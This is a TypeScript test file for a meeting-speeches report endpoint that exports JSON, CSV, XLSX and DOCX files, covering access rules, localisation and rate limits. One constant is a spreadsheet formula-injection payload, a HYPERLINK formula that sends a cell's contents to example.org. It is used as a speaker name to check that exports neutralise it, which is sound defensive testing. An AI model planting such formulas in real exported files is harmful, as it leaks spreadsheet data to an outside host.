// The report of speeches over HTTP: who gets it, in which files, and what stands in them.
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';

import { readDocx } from '../../server/import/files/docx.ts';
import { readXlsx } from '../../server/import/files/xlsx.ts';
import { openArchive } from '../../server/import/files/zip.ts';
import type { Live } from './live.ts';
import { openLive } from './live.ts';
import { whileTimeStands } from '../time-stands.ts';

const FORMATS = ['json', 'csv', 'xlsx', 'docx'] as const;
const FORMULA = '=HYPERLINK("http://example.org/?"&A1)';

let live: Live;
let token: string;
beforeAll(async () => {
  live = await openLive();
});
afterAll(() => live.close());

const documentOf = async (response: Response) => readDocx(openArchive(Buffer.from(await response.arrayBuffer())));
const pathOf = (format: string, meeting = live.meeting) => `/api/meetings/${meeting}/report.${format}`;

/** CH has spoken and calls its speaker a formula; AT has withdrawn; DE waits. */
beforeEach(async () => {
  await live.fresh();
  token = (await live.link('chair')).token;
  const chair = live.seat({ token });
  await chair.next('welcome');
  await chair.give({ type: 'OpenSitting', sittingId: 'am' });
  await chair.give({ type: 'OpenItem', itemId: '5(b)' });
  await chair.give({ type: 'OpenList', itemId: '5(b)' });
  for (const delegationId of ['CH', 'AT', 'DE'])
    await chair.give({ type: 'RequestFloor', itemId: '5(b)', delegationId, speaker: { name: FORMULA } });
  const [ch, at] = chair.meeting!.lists['5(b)']!.waiting;
  await chair.give({ type: 'GiveFloor', entryId: ch!.id, after: null });
  await chair.give({ type: 'EndSpeech', entryId: ch!.id });
  await chair.give({ type: 'WithdrawRequest', entryId: at!.id });
});

describe('the report of speeches', () => {
  test('is a file to keep, under a name of plain characters, that no cache keeps', async () => {
    for (const [format, type] of Object.entries({
      json: 'application/json; charset=utf-8',
      csv: 'text/csv; charset=utf-8',
      xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    })) {
      const { status, headers } = await live.get(pathOf(format), token);
      const name = `${format === 'docx' ? 'report' : 'speeches'}-${live.meeting}.${format}`;
      expect([status, headers.get('content-disposition')]).toEqual([200, `attachment; filename=${name}`]);
      expect(headers.get('content-type')).toBe(type);
      expect(headers.get('cache-control')).toBe('no-store');
      expect(headers.get('x-content-type-options')).toBe('nosniff');
    }
  });

  test('as JSON has instants and durations in ms, the time of day in the hall, and what each delegation spoke', async () => {
    const report = await (await live.get(pathOf('json'), token)).json();
    expect(report).toMatchObject({
      meetingId: live.meeting,
      title: 'Small meeting',
      timeZone: 'Europe/Zurich',
      totals: [{ delegationId: 'CH', speeches: 1 }],
    });
    expect(report.speeches).toMatchObject([
      { delegation: 'State CH', itemNumber: '5(b)', outcome: 'spoken', speaker: FORMULA, limitMs: 180_000 },
      { delegation: 'State AT', outcome: 'withdrawn', usedMs: null },
    ]);
    const [{ at, utc, local }] = report.speeches;
    expect(utc).toBe(new Date(at).toISOString());
    expect(local).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
    expect(report.totals[0].usedMs).toBe(report.speeches[0].usedMs);
  });

  test('as CSV begins with the mark of UTF-8, ends its lines as RFC 4180 says, and has no formula', async () => {
    const bytes = Buffer.from(await (await live.get(pathOf('csv'), token)).arrayBuffer());
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const text = bytes.toString().slice(1);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    const { data } = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
    expect(data).toMatchObject([
      { Item: '5(b)', Delegation: 'State CH', Speaker: `'${FORMULA}`, Status: 'spoke', 'Limit, seconds': '180' },
      { Delegation: 'State AT', Status: 'withdrawn', 'Spoke for, seconds': '' },
    ]);
  });

  test('as CSV has any of its tables, and says which there are where none such is asked for', async () => {
    const rows = async (table: string, more = '') => {
      const text = await (await live.get(`${pathOf('csv')}?table=${table}${more}`, token)).text();
      return Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true }).data;
    };
    expect(await rows('totals')).toMatchObject([{ Delegation: 'State CH', Category: 'State Party', Speeches: '1' }]);
    expect(await rows('items', '&lang=fr')).toContainEqual(
      expect.objectContaining({ Point: '5(b)', Interventions: '1', État: 'à l’examen' }),
    );
    expect((await rows('sittings')).map(({ Status }) => Status)).toEqual(['open', 'scheduled']);
    const refused = await live.get(`${pathOf('csv')}?table=votes`, token);
    expect([refused.status, await refused.json()]).toMatchObject([
      400,
      {
        error: {
          code: 'INVALID',
          details: {
            issues: [{ path: 'table', message: 'expected one of speeches, totals, categories, items, sittings' }],
          },
        },
      },
    ]);
  });

  test('as a document has the draft of a procedural report, in English and in French, and in no other language yet', async () => {
    for (const [lang, draft, statement] of [
      ['en', 'Draft procedural report', 'A statement was made by the representative of State CH.'],
      [
        'fr',
        'Projet de rapport de procédure',
        'Une déclaration a été faite par la délégation suivante\u00a0: State CH.',
      ],
    ] as const) {
      const blocks = await documentOf(await live.get(`${pathOf('docx')}?lang=${lang}`, token));
      const texts = blocks.flatMap((block) => (block.kind === 'paragraph' ? block.text : []));
      expect(texts).toEqual(expect.arrayContaining([draft, statement]));
      const times = blocks.findLast((block) => block.kind === 'table')!;
      const [used] = (await (await live.get(pathOf('json'), token)).json()).speeches;
      expect(times.kind === 'table' && times.rows.slice(1)).toEqual([
        expect.arrayContaining(['5(b)', 'State CH', FORMULA, String(Math.floor(used.usedMs / 1_000))]),
      ]);
    }
    const refused = await live.get(`${pathOf('docx')}?lang=ru`, token);
    expect([refused.status, await refused.json()]).toMatchObject([
      400,
      { error: { code: 'INVALID', message: 'lang is none that there is: expected one of en, fr.' } },
    ]);
  });

  test('as a document counts whoever came with a device as there', async () => {
    await live.sit('delegation', 'NZ');
    const link = await live.link('delegation', 'NZ');
    const joined = await live.post('/api/join', { link: link.token });
    expect(joined.status).toBe(200);
    const blocks = await documentOf(await live.get(pathOf('docx'), token));
    expect(JSON.stringify(blocks)).toContain('2 States parties took part: State CH and State NZ.');
  });

  test('as a workbook says what the state says, opened again, in English and in French', async () => {
    const [used] = (await (await live.get(pathOf('json'), token)).json()).speeches;
    const second = Math.floor(used.usedMs / 1_000);
    for (const [lang, speeches, statement, spoke, totals] of [
      ['en', 'Speeches', 'statement', ['spoke', 'withdrawn'], 'Totals'],
      ['fr', 'Interventions', 'déclaration', ['est intervenu', 'retiré'], 'Totaux'],
    ] as const) {
      const file = Buffer.from(await (await live.get(`${pathOf('xlsx')}?lang=${lang}`, token)).arrayBuffer());
      const sheets = await readXlsx(file, openArchive(file));
      const rowsOf = (name: string) =>
        sheets
          .find((sheet) => sheet.name === name)!
          .rows.slice(1)
          .map(({ cells }) => cells);
      expect(rowsOf(speeches).map((cells) => [cells[3], cells[5], cells[14]])).toEqual([
        ['State CH', statement, spoke[0]],
        ['State AT', statement, spoke[1]],
      ]);
      expect(rowsOf(speeches)[0]).toEqual(expect.arrayContaining([String(second), '180', FORMULA]));
      expect(rowsOf(totals)).toEqual([['State CH', 'State Party', '1', '1', String(second), '0']]);
    }
  });

  test('as a workbook has all of its tables, texts as texts and no formula', async () => {
    const files = unzipSync(new Uint8Array(await (await live.get(pathOf('xlsx'), token)).arrayBuffer()));
    const texts = Object.fromEntries(Object.entries(files).map(([name, bytes]) => [name, strFromU8(bytes)]));
    for (const text of Object.values(texts)) expect(text).not.toMatch(/<f[ >/]/);
    expect(texts['xl/sharedStrings.xml']).toContain('<t>=HYPERLINK("http://example.org/?"&amp;A1)</t>');
    expect(texts['xl/workbook.xml']).toMatch(
      /"Speeches".*"Totals".*"Categories".*"Items".*"Sittings".*"Columns explained"/,
    );
    expect(texts['xl/worksheets/sheet1.xml']!.match(/<row /g)).toHaveLength(3);
  });

  test('is of others what the meeting publishes: nothing, decisions, or who spoke; a delegation has its own besides', async () => {
    const secretary = await live.sit('secretary');
    const [ofAt, ofBooth] = [(await live.link('delegation', 'AT')).token, (await live.link('booth')).token];
    const json = async (shown?: string) => {
      const response = await live.get(pathOf('json'), shown);
      expect(response.headers.get('cache-control')).toBe('no-store');
      return { status: response.status, text: await response.text() };
    };
    for (const shown of [ofAt, ofBooth]) expect(await json(shown)).toMatchObject({ status: 403 });
    expect(await json()).toMatchObject({ status: 401 });

    await secretary.give({ type: 'EditSettings', publicView: true });
    expect(await json()).toMatchObject({ status: 403 });
    await secretary.give({ type: 'EditSettings', publishRecord: 'decisions' });
    const decisions = await json();
    expect(decisions.status).toBe(200);
    expect(JSON.parse(decisions.text)).toMatchObject({
      meetingId: live.meeting,
      title: 'Small meeting',
      decisions: [],
    });
    expect(decisions.text).not.toContain('State');
    const own = JSON.parse((await json(ofAt)).text);
    expect(own).not.toHaveProperty('speeches');
    expect(own.own).toMatchObject([{ delegation: 'State AT', outcome: 'withdrawn' }]);

    await secretary.give({ type: 'EditSettings', publishRecord: 'speeches' });
    for (const shown of [undefined, ofBooth]) {
      const { text } = await json(shown);
      expect(JSON.parse(text).speeches).toMatchObject([{ delegation: 'State CH', itemNumber: '5(b)' }]);
      // No person, and nobody who left the list without speaking.
      expect(text).not.toMatch(/HYPERLINK|State (AT|DE)|enteredBy|withdrawn/);
    }
    for (const format of ['csv', 'xlsx', 'docx']) expect((await live.get(pathOf(format), ofAt)).status).toBe(403);
    expect((await live.get(`${pathOf('json')}?lang=tlh`)).status).toBe(400);
  });

  test('of a meeting in which nobody has spoken has no rows', async () => {
    await live.fresh();
    const { token: officer } = await live.link('secretary');
    expect(await (await live.get(pathOf('json'), officer)).json()).toMatchObject({ totals: [], speeches: [] });
    expect((await (await live.get(pathOf('csv'), officer)).text()).split('\r\n')).toHaveLength(2);
    expect((await live.get(pathOf('xlsx'), officer)).status).toBe(200);
  });

  test('is refused as a meeting is: no token, a wrong one, another meeting’s, no such meeting', async () => {
    const before = { token, meeting: live.meeting };
    await live.fresh();
    const operator = await live.server.operator.createLink({ role: 'operator' });
    const operators = operator.ok ? operator.value.token! : '';
    // Each from an address of its own: the failures of one are answered later and later.
    let addresses = 0;
    const get = (where: string, shown?: string) =>
      fetch(live.url + where, {
        headers: {
          'x-forwarded-for': `192.0.2.${(addresses += 1)}`,
          ...(shown !== undefined && { authorization: `Bearer ${shown}` }),
        },
      });
    for (const format of FORMATS) {
      for (const [shown, meeting] of [
        [undefined, before.meeting],
        ['wrong', before.meeting],
        [before.token, live.meeting],
        [before.token, 'nowhere'],
        [operators, 'nowhere'],
        [before.token, '%20'],
      ] as const) {
        const [answer, asked] = [
          await get(pathOf(format, meeting), shown),
          await get(`/api/meetings/${meeting}`, shown === operators ? before.token : shown),
        ];
        expect([answer.status, await answer.json()]).toEqual([asked.status, await asked.json()]);
      }
    }
    expect((await live.get(pathOf('pdf', before.meeting), before.token)).status).toBe(404);
  });

  test('as a workbook or a document is made for two at once; who comes third is asked to come again', async () => {
    const answers = await Promise.all(
      ['xlsx', 'docx', 'xlsx', 'docx'].map((format) => live.get(pathOf(format), token)),
    );
    expect(answers.map(({ status }) => status).toSorted((one, other) => one - other)).toEqual([200, 200, 503, 503]);
    const refused = answers.find(({ status }) => status === 503)!;
    expect(refused.headers.get('retry-after')).toBe('3');
    expect(await refused.json()).toMatchObject({
      error: { code: 'UNAVAILABLE', remedy: expect.any(String), details: { retryAfterMs: 3_000 } },
    });
    expect((await live.get(pathOf('xlsx'), token)).status).toBe(200);
  });

  test('may be asked for half a dozen times at once, then one has to wait', async () => {
    const answers: number[] = [];
    await whileTimeStands(async () => {
      for (let nth = 0; nth < 8; nth += 1) answers.push((await live.get(pathOf('json'), token)).status);
    });
    expect(answers.slice(0, 6)).toEqual([200, 200, 200, 200, 200, 200]);
    expect(answers).toContain(429);
  });
});
